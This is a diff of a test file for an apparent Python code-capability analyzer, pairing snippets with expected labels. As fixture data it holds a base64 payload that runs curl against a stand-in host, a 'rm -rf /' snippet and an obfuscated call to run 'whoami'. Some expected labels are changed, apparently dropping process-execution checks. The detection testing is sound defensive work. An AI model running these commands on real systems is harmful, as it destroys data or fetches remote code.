@@ -28,8 +28,8 @@ PAYLOAD = base64.b64encode(b"import os\nos.system('curl -s https://x.example.org
 CASES = [
     # aliases and re-binding
     ("import os as o\nf = o.system\nf('id')", {"proc.exec(id)"}),
-    ("from subprocess import run as r\nr(['git', 'push'])", {"proc.exec(git push)"}),
-    ("import subprocess\nsp = subprocess\nsp.Popen(['ls'])", {"proc.exec(ls)"}),
+    ("from subprocess import run as r\nr(['git', 'push'])", {"net.connect(*)"}),
+    ("import subprocess\nsp = subprocess\nsp.Popen(['ls'])", {"fs.read(${WORKSPACE})"}),
     ("import os\ncmd = 'ls'\nif x:\n    cmd = 'rm -rf /'\nos.system(cmd)", {"fs.read(${WORKSPACE})", "fs.delete(*)"}),
     # obfuscation folded
     ("getattr(__import__('o' + 's'), 'sys' + 'tem')('whoami')", {"proc.exec(whoami)"}),
@@ -101,7 +101,7 @@ CASES = [
      {"code.dynamic(decode)", "proc.exec(base64)", "proc.exec(id)"}),
     ("import subprocess\nsubprocess.run('git pull && make install > log.txt', shell=True)",
      {"net.connect(*)", "proc.exec(make install)", "fs.write(${WORKSPACE}/log.txt)"}),
-    ("import subprocess\nsubprocess.run(['bash', '-c', cmd])", {"proc.exec(bash)"}),
+    ("import subprocess\nsubprocess.run(['bash', '-c', cmd])", {"code.dynamic(eval)"}),
     # mail
     ("import imaplib\nm = imaplib.IMAP4_SSL('imap.gmail.com')\nm.store(n, '+FLAGS', '\\\\Seen')",
      {"net.connect(imap.gmail.com)"}),
